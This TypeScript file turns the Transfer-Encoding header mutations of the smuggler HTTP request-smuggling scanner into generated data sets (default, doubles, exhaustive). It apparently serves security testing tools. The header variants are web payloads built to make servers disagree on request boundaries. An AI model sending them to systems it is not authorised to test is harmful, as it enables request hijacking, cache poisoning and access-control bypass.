/**
 * The gadgets of defparam/smuggler (MIT, commit 2be871e6151ce85167a277fab21c74c851d8b20b), as data:
 * header lines that one parser may read as `Transfer-Encoding: chunked` and another may not.
 *
 * Source: https://github.com/defparam/smuggler, configs/{default,doubles,exhaustive}.py
 */
export type Mutation = { name: string; line: string }

const from = (first: number, last: number): number[] =>
  Array.from({ length: last - first + 1 }, (_, at) => first + at)

const byByte = (
  bytes: readonly number[],
  lines: Readonly<Record<string, (byte: string) => string>>,
): Mutation[] =>
  bytes.flatMap((code) =>
    Object.entries(lines).map(([name, line]) => ({
      name: `${name}-${code.toString(16).padStart(2, '0')}`,
      line: line(String.fromCharCode(code)),
    })),
  )

const named = (lines: Readonly<Record<string, string>>): Mutation[] =>
  Object.entries(lines).map(([name, line]) => ({ name, line }))

const prefixes = {
  nameprefix1: ' Transfer-Encoding: chunked',
  tabprefix1: 'Transfer-Encoding:\tchunked',
  tabprefix2: 'Transfer-Encoding\t:\tchunked',
  space1: 'Transfer-Encoding : chunked',
}

const around = {
  midspace: (byte: string) => `Transfer-Encoding:${byte}chunked`,
  postspace: (byte: string) => `Transfer-Encoding${byte}: chunked`,
  prespace: (byte: string) => `${byte}Transfer-Encoding: chunked`,
  endspace: (byte: string) => `Transfer-Encoding: chunked${byte}`,
}

const defaults: Mutation[] = [
  ...named(prefixes),
  ...byByte([0x1, 0x4, 0x8, 0x9, 0xa, 0xb, 0xc, 0xd, 0x1f, 0x20, 0x7f, 0xa0, 0xff], {
    ...around,
    xprespace: (byte) => `X: X${byte}Transfer-Encoding: chunked`,
    endspacex: (byte) => `Transfer-Encoding: chunked${byte}X: X`,
    rxprespace: (byte) => `X: X\r${byte}Transfer-Encoding: chunked`,
    xnprespace: (byte) => `X: X${byte}\nTransfer-Encoding: chunked`,
    endspacerx: (byte) => `Transfer-Encoding: chunked\r${byte}X: X`,
    endspacexn: (byte) => `Transfer-Encoding: chunked${byte}\nX: X`,
  }),
]

const doubles: Mutation[] = byByte([...from(0x01, 0x20), ...from(0x7f, 0xff)], {
  'BB-BB-XX-XX': (byte) => `${byte}Transfer-Encoding${byte}: chunked`,
  'BB-XX-BB-XX': (byte) => `${byte}Transfer-Encoding:${byte}chunked`,
  'BB-XX-XX-BB': (byte) => `${byte}Transfer-Encoding: chunked${byte}`,
  'XX-BB-BB-XX': (byte) => `Transfer-Encoding${byte}:${byte}chunked`,
  'XX-BB-XX-BB': (byte) => `Transfer-Encoding${byte}: chunked${byte}`,
  'XX-XX-BB-BB': (byte) => `Transfer-Encoding:${byte}chunked${byte}`,
})

const exhaustive: Mutation[] = [
  ...named({
    ...prefixes,
    spacejoin1: 'Transfer Encoding: chunked',
    underjoin1: 'Transfer_Encoding: chunked',
    smashed: 'Transfer Encoding:chunked',
    valueprefix1: 'Transfer-Encoding:  chunked',
    vertprefix1: 'Transfer-Encoding:\x0bchunked',
    commaCow: 'Transfer-Encoding: chunked, cow',
    cowComma: 'Transfer-Encoding: cow, chunked',
    contentEnc: 'Content-Encoding: chunked',
    linewrapped1: 'Transfer-Encoding:\n chunked',
    quoted: 'Transfer-Encoding: "chunked"',
    aposed: "Transfer-Encoding: 'chunked'",
    lazygrep: 'Transfer-Encoding: chunk',
    sarcasm: 'TrAnSFer-EnCODinG: cHuNkeD',
    yelling: 'TRANSFER-ENCODING: CHUNKED',
    '0dsuffix': 'Transfer-Encoding: chunked\r',
    tabsuffix: 'Transfer-Encoding: chunked\t',
    revdualchunk: 'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
    '0dspam': 'Transfer\r-Encoding: chunked',
    nested: 'Transfer-Encoding: cow chunked bar',
    spaceFF: 'Transfer-Encoding:\xffchunked',
    accentCH: 'Transfer-Encoding: ch\x96nked',
    accentTE: 'Transf\x82r-Encoding: chunked',
    'x-rout': 'X:X\rTransfer-Encoding: chunked',
    'x-nout': 'X:X\nTransfer-Encoding: chunked',
  }),
  ...byByte([...from(0x01, 0x1f), ...from(0x7f, 0xff)], around),
]

/** With the number of gadgets that the tool itself counts in each. */
export const mutationSets: { name: string; count: number; mutations: readonly Mutation[] }[] = [
  { name: 'default', count: 134, mutations: defaults },
  { name: 'doubles', count: 966, mutations: doubles },
  { name: 'exhaustive', count: 668, mutations: exhaustive },
]
